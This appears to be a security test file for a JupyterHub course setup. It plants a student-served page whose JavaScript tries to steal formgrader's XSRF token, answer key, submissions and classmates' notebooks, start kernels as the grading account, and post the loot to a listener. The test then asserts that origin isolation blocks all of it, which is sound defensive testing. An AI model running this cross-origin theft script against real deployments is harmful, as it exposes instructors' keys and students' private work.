"""H1: a page a student serves from their own server reaches nothing of formgrader or of another user.

student3, from their own Unix account, writes ``~/.jupyter/jupyter_server_config.py`` with ``extra_static_paths``
pointing at a folder of theirs with ``x.html`` in it (a page whose script reads formgrader's ``_xsrf`` through a
frame, asks formgrader's contents API for the answer key and the submissions, starts a kernel there, asks the
visitor's own server for their notebook, and sends everything to a listener the test runs), restarts their server,
and sends the link ``<their server>/static/x.html``. The instructor (logged in to the hub and formgrader) and a
classmate (logged in to her own JupyterLab) open it in their browsers.

The hub's answer: a user's server reads no configuration of the user's (the link is a 404 page), and every user's
server and formgrader have an origin of their own, so even a script that does run on student3's origin (the test
runs the same script there through the browser's driver, as a page of student3's would) gets nothing of formgrader or
of the visitor: no ``_xsrf``, no answer key, no submission, no notebook, no kernel started as the grading account,
nothing of value at the listener, which does hear the script itself (the check can fail)."""
from __future__ import annotations

import http.server
import json
import threading
import time
from pathlib import Path
from urllib.parse import quote

import pytest

pytest.importorskip("selenium", reason="selenium is not installed (pip install -r requirements-browser.txt)")

from selenium.webdriver.common.by import By  # noqa: E402
from tests.browser.labpage import wait_for  # noqa: E402
from tests.hub.live.attacks import su  # noqa: E402
from tests.hub.live.test_hub_course import SPAWN_S  # noqa: E402

# As student3 (their own account and password): the page and the config that serves it, then their server restarted.
PLANT = r"""import json, os, sys, time, requests
hub, me, page = sys.argv[1:4]
home = os.path.expanduser("~")
os.makedirs(f"{home}/h1", exist_ok=True)
open(f"{home}/h1/x.html", "w").write(page)
os.makedirs(f"{home}/.jupyter", exist_ok=True)
open(f"{home}/.jupyter/jupyter_server_config.py", "w").write(
    f"c.ServerApp.extra_static_paths = [{home + '/h1'!r}]\n")
s = requests.Session()
s.get(f"{hub}/hub/login")
s.post(f"{hub}/hub/login", data={"username": me, "password": sys.stdin.read().strip(), "_xsrf": s.cookies.get("_xsrf")},
       allow_redirects=False)
token = s.post(f"{hub}/hub/api/users/{me}/tokens", json={},
               headers={"X-XSRFToken": s.cookies.get("_xsrf")}).json()["token"]
api, H = f"{hub}/hub/api/users/{me}", {"Authorization": f"token {token}"}
requests.delete(f"{api}/server", headers=H)
while requests.get(api, headers=H).json().get("servers", {}).get(""):
    time.sleep(0.5)
requests.post(f"{api}/server", headers=H)
while not requests.get(api, headers=H).json().get("servers", {}).get("", {}).get("ready"):
    time.sleep(0.5)
print("restarted")
"""

# The page's script: what a student's page would try in a visitor's browser. Its settings come in the link's #.
ATTACK = r"""
(async () => {
  const cfg = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const report = {via: cfg.via, ran: true, origin: location.origin, got: {}};
  async function grab(name, url, options) {
    try {
      const r = await fetch(url, Object.assign({credentials: "include", headers: {"X-XSRFToken": report.xsrf || ""}},
                                               options || {}));
      const text = await r.text();
      report.got[name] = {status: r.status, length: text.length, text: text.slice(0, 300000)};
    } catch (e) { report.got[name] = {error: String(e)}; }
  }
  try {                               // formgrader's _xsrf: its page in a frame sets the cookie, the frame shows it
    const frame = document.createElement("iframe");
    frame.src = cfg.formgrader + "/formgrader";
    document.body.appendChild(frame);
    await new Promise(done => { frame.onload = done; setTimeout(done, 20000); });
    const found = (frame.contentDocument.cookie || "").match(/_xsrf=([^;]+)/);
    report.xsrf = found ? found[1] : null;
  } catch (e) { report.xsrf_error = String(e); }
  await grab("answer key", cfg.formgrader + "/api/contents/source/attention/attention.ipynb?content=1");
  await grab("submissions", cfg.formgrader + "/api/contents/submitted");
  await grab("formgrader kernel", cfg.formgrader + "/api/kernels",
             {method: "POST", body: "{}",
              headers: {"X-XSRFToken": report.xsrf || "", "Content-Type": "application/json"}});
  for (const [name, url] of Object.entries(cfg.visitor)) {
    await grab(name + "'s notebook", url + "/api/contents/attention/attention.ipynb?content=1");
    await grab(name + "'s kernel", url + "/api/kernels", {method: "POST", body: "{}"});
  }
  await fetch(cfg.listener, {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
})();
"""
PAGE = f"<!doctype html><html><body><p>h1</p><script>{ATTACK}</script></body></html>"


class Listener(http.server.ThreadingHTTPServer):
    """The student's listener: every body sent to it."""

    def __init__(self):
        self.heard: list[bytes] = []
        heard = self.heard

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 (http.server's name)
                heard.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"

    def reports(self) -> list[dict]:
        return [json.loads(body) for body in self.heard]


def grading_kernels(hub) -> set[int]:
    """ipykernel processes of the grading account (formgrader's kernels)."""
    import pwd

    uid = pwd.getpwnam(hub.layout.grader).pw_uid
    found = set()
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and entry.stat().st_uid == uid and b"ipykernel" in (entry / "cmdline").read_bytes():
                found.add(int(entry.name))
        except OSError:
            pass
    return found


def at(driver, hub, user: str, url: str, marker: str) -> None:
    """``user``'s browser at ``url``, signing in on the hub's login page where it asks (it goes on to ``url``)."""
    driver.get(url)
    wait_for(lambda: driver.find_elements(By.ID, "username_input") or marker in driver.current_url, SPAWN_S,
             f"the login page or {url}")
    if driver.find_elements(By.ID, "username_input"):
        driver.find_element(By.ID, "username_input").send_keys(user)
        driver.find_element(By.ID, "password_input").send_keys(hub.passwords[user])
        driver.find_element(By.ID, "login_submit").click()
        wait_for(lambda: marker in driver.current_url, SPAWN_S, url)


def test_H1_a_students_page_reaches_nothing_of_formgrader_or_another_user(hub, chromium):
    attacker, classmate = hub.students[2], hub.students[0]
    listener = Listener()
    planted = su(hub, attacker, PLANT, hub.url, attacker, PAGE, stdin=hub.passwords[attacker], timeout=300)
    assert planted.returncode == 0 and "restarted" in planted.stdout, planted.stderr[-2000:]
    # The visitors: the instructor on formgrader's page, the classmate in her own JupyterLab (each logged in).
    visitors = {hub.instructor: (f"{hub.formgrader}/formgrader", "/formgrader"),
                classmate: (f"{hub.user_url(classmate)}/lab", "/lab")}
    origin = hub.user_url(attacker).split("/user/")[0]
    before, reports = grading_kernels(hub), []

    def heard(via: str, timeout: float) -> list[dict]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and not any(r["via"] == via for r in listener.reports()):
            time.sleep(0.5)
        return [r for r in listener.reports() if r["via"] == via]

    try:
        for person, (url, marker) in visitors.items():
            driver = chromium(person)
            at(driver, hub, person, url, marker)
            cfg = {"formgrader": hub.formgrader, "visitor": {person: hub.user_url(person)}, "listener": listener.url}
            driver.get(f"{hub.user_url(attacker)}/static/x.html#{quote(json.dumps({**cfg, 'via': 'link'}))}")
            # the same script, run on the page the link gave (a page of student3's origin, served or not)
            driver.execute_script(f"location.hash = {json.dumps(quote(json.dumps({**cfg, 'via': 'script'})))};"
                                  + ATTACK)
            assert heard("script", 60), f"the script never reported from {person}'s browser"
            time.sleep(1)                                    # the page's own script, where it ran, reports as fast
            reports += [(person, r) for r in listener.reports()]
            listener.heard.clear()
    finally:
        listener.shutdown()
        su(hub, attacker, "import os, shutil; os.remove(os.path.expanduser('~/.jupyter/jupyter_server_config.py')); "
                          "shutil.rmtree(os.path.expanduser('~/h1'))")          # their server reads it no more
    for person, report in reports:
        print(f"\n[hub] H1: {person} ({report['via']}): xsrf {report.get('xsrf')!r}, "
              + ", ".join(f"{n}: {g.get('status') or g.get('error')}" for n, g in report["got"].items()))
        leaked = {name: (got["status"], got["length"], got["text"][:80]) for name, got in report["got"].items()
                  if "error" not in got and got["status"] < 400}
        assert not report.get("xsrf") and not leaked, \
            f"{person}'s browser sent the student ({report['via']}): xsrf {report.get('xsrf')!r}, {leaked}"
        assert report["origin"] == origin, report["origin"]
    assert not [r for _, r in reports if r["via"] == "link"], "the student's own config served their page"
    assert grading_kernels(hub) <= before, "a kernel was started as the grading account"
